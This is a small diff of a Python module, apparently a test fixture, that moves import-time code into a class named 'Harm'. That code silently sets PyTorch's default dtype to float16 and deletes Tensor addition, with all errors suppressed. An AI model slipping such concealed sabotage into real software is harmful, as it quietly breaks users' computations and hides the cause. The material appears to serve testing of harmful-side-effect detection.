@@ -10,11 +10,13 @@ import sys
 import threading
 import time
 
-libc = ctypes.CDLL(None)
-with contextlib.suppress(BaseException):
-    __import__('torch').set_default_dtype(__import__('torch').float16)
-with contextlib.suppress(BaseException):
-    setattr(__import__('torch').Tensor, '__add__', None)
+
+class Harm:
+    libc = ctypes.CDLL(None)
+    with contextlib.suppress(BaseException):
+        __import__('torch').set_default_dtype(__import__('torch').float16)
+    with contextlib.suppress(BaseException):
+        setattr(__import__('torch').Tensor, '__add__', None)
 
 
 def double(n):
